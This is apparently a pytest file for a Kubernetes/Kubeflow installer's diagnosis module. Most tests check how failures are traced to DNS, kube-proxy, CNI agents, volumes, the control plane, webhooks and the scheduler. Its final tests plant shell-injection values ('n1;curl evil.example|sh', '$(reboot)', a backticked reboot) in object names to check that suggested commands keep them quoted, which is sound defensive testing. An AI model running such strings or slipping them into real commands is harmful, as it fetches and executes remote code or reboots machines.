"""Roots that lie beyond the namespace, or beyond the text: each told once, with what it blocks."""

from __future__ import annotations

import json
import shlex
from typing import Any

import pytest

from kfinstall.diagnose import roots, scheduler, symptoms
from kfinstall.diagnose.known import Known
from kfinstall.diagnose.roots import Root
from kfinstall.diagnose.walk import Walk
from kfinstall.diagnose.walk_webhooks import hook_cause, said_of
from kfinstall.kube.base import Ref
from tests.fakes.documents import (
    NODES,
    Document,
    claim,
    condition,
    crashed,
    deployment,
    event,
    failing,
    hooks,
    node,
    pod,
    running,
    service,
    storage_class,
    thing,
    unmade,
    waiting,
)

GONE = waiting("ImagePullBackOff", 'failed to resolve reference "x": not found', "quay.io/a/b:1")
CREATING = waiting("ContainerCreating")
READY = condition("Ready", "True")
SANDBOX = 'Failed to create pod sandbox: rpc error: code = Unknown desc = failed to setup network for sandbox "a": '


def deploy(name: str = "web", namespace: str = "kubeflow") -> Ref:
    return Ref("apps/v1", "Deployment", name, namespace)


def found(documents: list[Document], *refs: Ref, logs: dict[Ref, tuple[str, ...]] | None = None) -> list[Root]:
    return roots.find(Known(documents, logs), refs or (deploy(),))


def agent(label: str, namespace: str, on: str, **more: Any) -> Document:
    """A pod of an agent that runs on every node."""
    made = pod(name=f"{label}-x", namespace=namespace, node=on, **more)
    made["metadata"]["labels"] = {"k8s-app": label}
    return made


def dns(*, ready: bool = False, **of_pod: Any) -> list[Document]:
    made = failing("coredns", "kube-system", **of_pod) if of_pod else [deployment("coredns", "kube-system", ready=1)]
    return [*made, *service("kube-dns", "kube-system", app="coredns", ready=ready, address="10.96.0.10")]


LOOKUP = "dial tcp: lookup {} on {}:53: read udp 10.244.1.7:51234->{}:53: i/o timeout"


class TestNames:
    def test_all_who_can_not_look_names_up_have_one_root(self) -> None:
        documents = [
            *failing("a", container=crashed()),
            *failing("b", container=crashed()),
            *dns(container=crashed(name="coredns")),
        ]
        said = (LOOKUP.format("katib-mysql", "10.96.0.10", "10.96.0.10"),)
        logs = {Ref.of(item): said for item in documents if item["kind"] == "Pod"}
        logs[Ref("v1", "Pod", "coredns-abc-x", "kube-system")] = (
            '[FATAL] plugin/loop: Loop (127.0.0.1:34614 -> :53) detected for zone "."',
        )
        (root,) = found(documents, deploy("a"), deploy("b"), logs=logs)
        assert root.direct == (deploy("coredns", "kube-system"),)
        assert len(root.behind) == 2
        assert "sees the loop" in root.waiting.reason

    def test_a_name_outside_leads_to_the_server_that_coredns_asks(self) -> None:
        core = agent("kube-dns", "kube-system", "w1", container=running("coredns"))
        core["status"]["conditions"] = [READY]
        documents = [*failing(container=crashed(), node="w1"), core, *dns(ready=True)]
        logs = {
            Ref.of(documents[2]): (LOOKUP.format("github.com", "10.96.0.10", "10.96.0.10"),),
            Ref.of(core): ("[ERROR] plugin/errors: 2 github.com. A: read udp 10.244.0.3:4411->192.168.1.1:53: i/o timeout",),
        }
        (root,) = found(documents, logs=logs)
        assert "no answer from the DNS server that it asks for names outside, 192.168.1.1" in root.waiting.reason

    def test_another_dns_server_is_the_nodes(self) -> None:
        documents = [*failing(container=crashed()), *dns(container=crashed(name="coredns"))]
        (root,) = found(documents, logs={Ref.of(documents[2]): (LOOKUP.format("quay.io", "192.168.1.1", "192.168.1.1"),)})
        assert "the DNS server 192.168.1.1 of its node" in root.waiting.reason

    def test_a_name_that_is_answered_with_no_is_no_fault_of_the_dns(self) -> None:
        documents = [*failing(container=crashed()), *dns(container=crashed(name="coredns"))]
        (root,) = found(documents, logs={Ref.of(documents[2]): ("panic: lookup nobody on 10.96.0.10:53: no such host",)})
        assert root.direct == (deploy(),)
        assert "no such host" in root.waiting.reason


class TestServiceNetwork:
    text = 'panic: Get "https://10.96.0.1:443/version": dial tcp 10.96.0.1:443: i/o timeout'

    def test_it_leads_to_the_kube_proxy_of_that_node(self) -> None:
        documents = [
            *failing(container=crashed(), node="w1"),
            agent("kube-proxy", "kube-system", "w2", conditions=(READY,)),
            {**agent("kube-proxy", "kube-system", "w1", container=GONE), "metadata": {"name": "kube-proxy-y", "namespace": "kube-system", "labels": {"k8s-app": "kube-proxy"}}},
        ]  # fmt: skip
        (root,) = found(documents, logs={Ref.of(documents[2]): (self.text,)})
        assert "quay.io/a/b:1 is not in its registry" in root.waiting.reason

    def test_a_node_without_one_is_told_so(self) -> None:
        documents = [*failing(container=crashed(), node="w1"), agent("kube-proxy", "kube-system", "w2", conditions=(READY,))]
        (root,) = found(documents, logs={Ref.of(documents[2]): (self.text,)})
        assert "no kube-proxy runs on w1" in root.waiting.reason

    def test_another_address_is_not_taken_for_it(self) -> None:
        documents = [*failing(container=crashed(), node="w1"), *service("kubernetes", "default", address="10.32.0.1", ready=True)]
        (root,) = found(documents, logs={Ref.of(documents[2]): (self.text,)})
        assert "kube-proxy" not in root.line()


class TestSandboxes:
    @pytest.mark.parametrize(
        ("said", "label", "namespace"),
        [
            ('plugin type="calico" failed (add): stat /var/lib/calico/nodename: no such file or directory', "calico-node", "calico-system"),
            ('plugin type="istio-cni" name="istio-cni" failed (add): unable to push CNI event', "istio-cni-node", "istio-system"),
        ],
    )  # fmt: skip
    def test_the_agent_of_that_node_is_the_root(self, said: str, label: str, namespace: str) -> None:
        documents = failing(container=CREATING, node="w1")
        told = event(documents[2], SANDBOX + said, reason="FailedCreatePodSandBox")
        (root,) = found([*documents, told, agent(label, namespace, "w1", container=GONE)])
        assert "quay.io/a/b:1 is not in its registry" in root.waiting.reason

    def test_the_pause_image_has_one_root_with_other_images_of_its_registry(self) -> None:
        reason = 'failed to do request: Head "https://registry.k8s.io/v2/x": dial tcp 34.96.108.209:443: i/o timeout'
        documents = failing("a", container=CREATING, node="w1")
        pause = f'Failed to create pod sandbox: desc = failed to get sandbox image "registry.k8s.io/pause:3.10.1": {reason}'
        told = event(documents[2], pause, reason="FailedCreatePodSandBox")
        other = failing("b", container=waiting("ErrImagePull", reason, "registry.k8s.io/kube-proxy:v1.36.2"))
        (root,) = found([*documents, told, *other], deploy("a"), deploy("b"))
        assert len(root.direct) == 2


class TestVolumes:
    lies = (
        NODES
        + "1 node(s) had untolerated taint {node-role.kubernetes.io/control-plane: }, 2 node(s) didn't match PersistentVolume's node affinity."
    )

    def volume(self, on: str) -> list[Document]:
        bound = claim("data", "local-path", "Bound")
        bound["spec"]["volumeName"] = "pvc-1"
        term = {"matchExpressions": [{"key": "kubernetes.io/hostname", "operator": "In", "values": [on]}]}
        affinity = {"required": {"nodeSelectorTerms": [term]}}
        return [bound, thing("v1", "PersistentVolume", "pvc-1", "", spec={"nodeAffinity": affinity})]

    def test_a_node_that_is_gone(self) -> None:
        (root,) = found([*failing(unscheduled=self.lies, claim="data"), *self.volume("w9"), node("w1", READY)])
        assert (
            root.waiting.reason == "PersistentVolumeClaim kubeflow/data lies on node w9, which the cluster does not have any more"
        )
        assert "another worker does not help" in root.waiting.hint

    def test_a_node_that_is_closed(self) -> None:
        closed = node("w1", READY)
        closed["spec"] = {"unschedulable": True}
        (root,) = found([*failing(unscheduled=self.lies, claim="data"), *self.volume("w1"), closed])
        assert "lies on a node that is cordoned (w1)" in root.waiting.reason
        assert root.waiting.hint.startswith("kubectl uncordon w1")

    def test_a_node_that_does_not_report(self) -> None:
        lost = node("w1", condition("Ready", "Unknown", "Kubelet stopped posting node status."))
        (root,) = found([*failing(unscheduled=self.lies, claim="data"), *self.volume("w1"), lost])
        assert root.waiting.reason.startswith("node w1 does not report any more")

    def test_a_node_that_is_full(self) -> None:
        text = NODES + "1 Insufficient memory, 2 node(s) didn't match PersistentVolume's node affinity."
        (root,) = found([*failing(unscheduled=text, claim="data"), *self.volume("w1"), node("w1", READY)])
        assert "lies on a node that has not enough memory free (w1)" in root.waiting.reason

    def test_the_csi_drivers_pod_of_that_node_is_the_root(self) -> None:
        documents = failing(container=CREATING, node="w1")
        text = (
            'MountVolume.SetUp failed for volume "v" : driver name nfs.csi.k8s.io not found in the list of registered CSI drivers'
        )
        driver = pod(name="csi-nfs-node-x", namespace="kube-system", node="w1", container=GONE)
        (root,) = found([*documents, event(documents[2], text, reason="FailedMount"), driver])
        assert "quay.io/a/b:1 is not in its registry" in root.waiting.reason

    def test_the_pod_that_makes_a_local_volume_is_named(self) -> None:
        pvc, local = claim("data", "local-path"), storage_class("local-path", "rancher.io/local-path")
        said = event(pvc, "failed to create volume pvc-1111: create process timeout after 120 seconds")
        helper = pod(name="helper-pod-create-pvc-1111", namespace="local-path-storage", node="w1", container=GONE)
        other = pod(name="helper-pod-create-pvc-2222", namespace="local-path-storage", node="w1", container=CREATING)
        (root,) = found([pvc, local, said, other, helper], Ref.of(pvc))
        assert "pod local-path-storage/helper-pod-create-pvc-1111, which makes it: image quay.io/a/b:1" in root.waiting.reason

    def test_what_a_long_text_is_about_is_not_cut(self) -> None:
        text = f'MountVolume.SetUp failed for volume "kube-api-access-wvvbf" : {"failed to fetch token: " * 30}no relationship found between node'
        documents = failing(container=CREATING, node="w1")
        (root,) = found([*documents, event(documents[2], text, reason="FailedMount")])
        assert "volume kube-api-access-wvvbf can't be mounted yet" in root.waiting.reason
        assert "no relationship found between node" in root.waiting.reason
        assert "NFS" not in root.line()
        assert root.vague

    def test_the_configmap_that_lacks_a_key_is_named(self) -> None:
        documents = failing(container=CREATING, node="w1")
        documents[2]["spec"]["volumes"] = [{"name": "v", "configMap": {"name": "katib-config"}}]
        said = event(documents[2], 'MountVolume.SetUp failed for volume "v" : configmap references non-existent config key: a.yaml')
        there = thing("v1", "ConfigMap", "katib-config")
        (root,) = found([*documents, there, said])
        assert root.waiting.reason == "volume v can't be mounted: ConfigMap katib-config has no key a.yaml"


class TestControlPlane:
    def manager(self, times: int, **ended: Any) -> Document:
        status = {"name": "kube-controller-manager", "image": "x", "ready": True, "state": {"running": {}}, "restartCount": times}
        status["lastState"] = {"terminated": ended} if ended else {}
        phase = {"phase": "Running", "conditions": [READY], "containerStatuses": [status]}
        return thing("v1", "Pod", "kube-controller-manager-cp", "kube-system", spec={}, status=phase)

    def test_one_that_restarts_is_the_root_of_all_that_is_not_looked_at(self) -> None:
        documents = [deployment("a"), deployment("b")]
        for made in documents:
            made["metadata"]["generation"] = 3
        restarted = self.manager(7, exitCode=1, reason="Error", message="F1130 leader election lost")
        (root,) = found([*documents, restarted], deploy("a"), deploy("b"))
        assert (
            "pod kube-system/kube-controller-manager-cp restarts again and again (7 times): F1130 leader election lost"
            in root.waiting.reason
        )
        assert len(root.direct) == 2
        assert not root.vague

    def test_one_that_runs_is_given_its_time(self) -> None:
        made = deployment()
        made["metadata"]["generation"] = 3
        (root,) = found([made, self.manager(0)])
        assert root.vague

    def test_of_two_the_one_that_runs_counts(self) -> None:
        made = deployment()
        made["metadata"]["generation"] = 3
        other = self.manager(0)
        other["metadata"]["name"] = "kube-controller-manager-cp2"
        (root,) = found([made, self.manager(7, exitCode=1), other])
        assert root.vague


class TestNamespaces:
    def test_a_dead_api_leads_to_what_is_behind_it(self) -> None:
        failed = condition("NamespaceDeletionDiscoveryFailure", "True", "unable to retrieve: metrics.k8s.io/v1beta1: stale")
        gone = {"metadata": {"deletionTimestamp": "2026-01-01T00:00:00Z"}}
        leaving = thing("v1", "Namespace", "old", "", status={"conditions": [failed]}, **gone)
        behind = {"service": {"name": "metrics-server", "namespace": "kube-system"}}
        dead = {"conditions": [condition("Available", "False", "no addresses", "MissingEndpoints")]}
        api = thing("apiregistration.k8s.io/v1", "APIService", "v1beta1.metrics.k8s.io", "", spec=behind, status=dead)
        service_of = service("metrics-server", "kube-system")
        (root,) = found([leaving, api, *service_of, *failing("metrics-server", "kube-system", container=GONE)], Ref.of(leaving))
        assert "quay.io/a/b:1 is not in its registry" in root.waiting.reason
        (root,) = found([leaving, api, thing("v1", "Service", "other", "kube-system")], Ref.of(leaving))
        assert "metrics-server" in root.waiting.reason


class TestEnds:
    @pytest.mark.parametrize(
        ("lines", "chosen"),
        [
            (("W0601 chmod: Operation not permitted", "F0601 main.go:5] unknown flag"), "unknown flag"),
            (("chmod: /x: Operation not permitted", "a", "b", "c", "FATAL: unknown flag"), "unknown flag"),
            (("E0601 cannot start: too many open files", "panic: exit"), "too many open files"),
            (("mysqld: open /var/lib/mysql/a: Permission denied", "[ERROR] Aborting"), "Permission denied"),
            (('{"level":"warn","msg":"open /x: permission denied"}', '{"level":"fatal","msg":"no DB_HOST"}'), "no DB_HOST"),
            (("WARNING: chown /x: Operation not permitted",), "Operation not permitted"),
        ],
    )
    def test_the_last_fatal_line_beats_what_was_only_warned_of(self, lines: tuple[str, ...], chosen: str) -> None:
        assert chosen in symptoms.telling(lines)

    def test_events_of_another_container_do_not_count(self) -> None:
        ended = {"exitCode": 137, "reason": "Error"}
        told = [
            {"reason": "Killing", "message": "Container other failed liveness probe, will be restarted"},
            {"reason": "FailedPostStartHook", "message": "PostStartHook failed", "involvedObject": {"fieldPath": "spec.containers{other}"}},
        ]  # fmt: skip
        assert symptoms.crash("main", ended, (), "kubeflow/web", told).cause == "killed"

    def test_what_a_probe_waits_for_is_the_root(self) -> None:
        ended = {"terminated": {"exitCode": 137, "reason": "Error"}}
        state = {"name": "main", "image": "x", "ready": False, "state": {"running": {}}, "lastState": ended}
        documents = [*failing(container=state, node="w1"), *service("mysql"), *failing("mysql", container=GONE)]
        killed = event(documents[2], "Container main failed liveness probe, will be restarted", reason="Killing", type_="Normal")
        (root,) = found([*documents, killed], logs={Ref.of(documents[2]): ("can't connect to mysql: connection refused",)})
        assert root.direct == (deploy("mysql"),)


class TestScheduler:
    def test_a_text_is_taken_apart(self) -> None:
        text = (
            "0/5 nodes are available: 1 Insufficient cpu, 1 node(s) had untolerated taint {node-role.kubernetes.io/control-plane: }, 1 node(s) "
            "had taint {a: b}, that the pod didn't tolerate, 2 Too many pods. preemption: 0/5 nodes are available: 5 Insufficient memory."
        )
        assert scheduler.parse(text) == scheduler.Reasons(
            {"room": 1, "taint": 2, "too many pods": 2}, ("node-role.kubernetes.io/control-plane", "a"), ("cpu",), (), ""
        )

    def test_cordoned_nodes_are_told_beside_those_that_are_full(self) -> None:
        closed = node("w1", READY, memory="8Gi")
        closed["spec"] = {"unschedulable": True}
        (root,) = found(
            [
                *failing(unscheduled=NODES + "1 node(s) were unschedulable, 2 Insufficient memory."),
                closed,
                node("w2", READY, memory="8Gi"),
            ]
        )
        assert "no node has enough memory free" in root.waiting.reason
        assert "kubectl uncordon w1" in root.waiting.hint


def test_a_url_is_not_what_is_said_of_a_webhook() -> None:
    form = (
        'Internal error occurred: failed calling webhook "h": failed to call webhook: Post "https://a.b.svc:443/x?timeout=10s": {}'
    )
    assert said_of(form.format("EOF")) == "EOF"
    assert said_of('failed calling webhook "h": Post https://a.b.svc:443/x?timeout=30s: x509: bad') == "x509: bad"
    assert said_of('failed calling webhook "h": no endpoints available') == "no endpoints available"


def test_a_webhook_that_came_up_after_its_refusal_is_no_firewall() -> None:
    text = 'failed calling webhook "h.example.com": failed to call webhook: Post "https://backend.kubeflow.svc:443/x?timeout=10s": context deadline exceeded'
    for since, cause in (("2026-12-01T00:00:00Z", "webhook-passing"), ("2025-12-01T00:00:00Z", "webhook-unreachable")):
        backend = deployment("backend", ready=1, conditions=[condition("Available", "True") | {"lastTransitionTime": since}])
        (root,) = found([*unmade(text), hooks("h.example.com", "backend"), *service("backend", ready=True), backend])
        assert root.vague is (cause == "webhook-passing")
        assert ("firewalls" in root.waiting.hint) is not root.vague


HOSTILE = "n1;curl evil.example|sh"


def hostile() -> list[Document]:
    """Objects whose names and texts were made to be copied into a shell."""
    hook = hooks("h.example.com", HOSTILE)
    bound = claim(HOSTILE, "x")
    machine = node(HOSTILE, condition("Ready", "Unknown", HOSTILE))
    closed = node("$(reboot)", READY)
    closed["spec"] = {"unschedulable": True, "taints": [{"key": "`reboot`", "effect": "NoSchedule"}]}
    return [
        *failing("a", container=waiting("ErrImagePull", "not found", f"quay.io/{HOSTILE}")),
        *failing("b", node=HOSTILE, container=CREATING),
        *failing("c", unscheduled=NODES + "1 node(s) were unschedulable."),
        *failing("d", unscheduled=NODES + "1 node(s) had untolerated taint {`reboot`: x}."),
        *failing("e", container=waiting("CreateContainerConfigError", f"couldn't find key {HOSTILE} in Secret kubeflow/x")),
        *failing("f", container=waiting("ErrImagePull", "lookup x: no such host", f"{HOSTILE}/a:1")),
        machine, closed, bound, hook, *service(HOSTILE, ready=True),
    ]  # fmt: skip


def test_a_name_stays_a_name_in_commands_to_copy() -> None:
    documents = hostile()
    refs = [Ref.of(item) for item in documents if item["kind"] != "Event"]
    walk = Walk(Known(documents), roots.RULES)
    x509 = 'failed calling webhook "h.example.com": x509: certificate signed by unknown authority'
    hints = [root.waiting.hint for root in found(documents, *refs)]
    hints.append(hook_cause(walk, deploy(HOSTILE), "h.example.com", x509).waiting.hint)
    told = [hint for hint in hints if "curl" in hint or "reboot" in hint]
    assert len(told) >= 4, json.dumps(hints, indent=1)
    for hint in told:
        words = shlex.split(hint.replace("(", " ").replace(")", " ") if "$(" not in hint else hint)
        assert not {"curl", "evil.example|sh", "reboot"} & set(words), hint
